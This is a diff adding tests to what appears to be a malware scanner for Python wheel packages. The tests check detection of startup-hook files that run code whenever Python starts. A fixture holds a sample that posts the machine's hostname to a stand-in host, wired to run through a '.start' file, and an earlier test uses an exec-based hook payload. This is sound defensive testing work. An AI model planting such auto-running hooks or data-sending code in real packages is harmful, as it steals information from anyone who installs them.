@@ -54,3 +54,31 @@ test('a hook for which a variable has to ask warns, however long the text is tha
   const text = `if os.environ.get("GARDEN"):\\n${'    # A remark.\\n'.repeat(200)}    import garden\\n    garden.water()\\n`;
   expect(await found(`import os; exec('${text}')\n`)).toEqual(['medium executable-pth 1']);
 });
+
+// Worth a word in a function that nobody calls, and a block where Python calls it whenever it starts.
+const TELLS_HOST = 'import requests, socket\n\ndef run():\n    requests.post("https://collect.example.invalid", json=[socket.gethostname()])\n';
+
+/** What is found in a wheel with these files, by file. */
+async function foundIn(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
+  const name = 'garden-1.0-py3-none-any.whl';
+  const members = { 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', ...files };
+  return await inFolder(async (folder) => {
+    await writeFile(join(folder, name), zipOf(Object.entries(members).map(([member, data]) => ({ name: member, data }))));
+    const { findings } = await analyseArchive(join(folder, name), { rules, loadParser: () => parser }, { name: null, version: null });
+    return findings.filter(({ rule }) => /^executable-pth$|-to-network$/.test(rule)).map(({ rule, file, line, severity }) => `${severity} ${rule} ${file}:${line}`);
+  });
+}
+
+test('a function that a .start file names runs whenever Python starts', async () => {
+  const files = { 'garden/__init__.py': '', 'garden/hooks.py': TELLS_HOST };
+  expect(await foundIn(files)).toEqual([]);
+  expect(await foundIn({ ...files, 'garden.start': '# hooks\n\ngarden.hooks:run\n' })).toEqual(['critical host-identity-to-network garden/hooks.py:4', 'medium executable-pth garden.start:3']);
+});
+
+test.each(['# garden.hooks:run', 'garden.hooks', 'garden.hooks:', 'garden hooks:run', './lib', ''])('%j in a .start file runs nothing', async (line) => {
+  expect(await foundIn({ 'garden/hooks.py': TELLS_HOST, 'garden.start': `${line}\n` })).toEqual([]);
+});
+
+test('.start files that Python does not read are data', async () => {
+  expect(await foundIn({ 'garden/hooks.py': TELLS_HOST, '.garden.start': 'garden.hooks:run\n', 'garden/levels/one/level.start': 'garden.hooks:run\n' })).toEqual([]);
+});
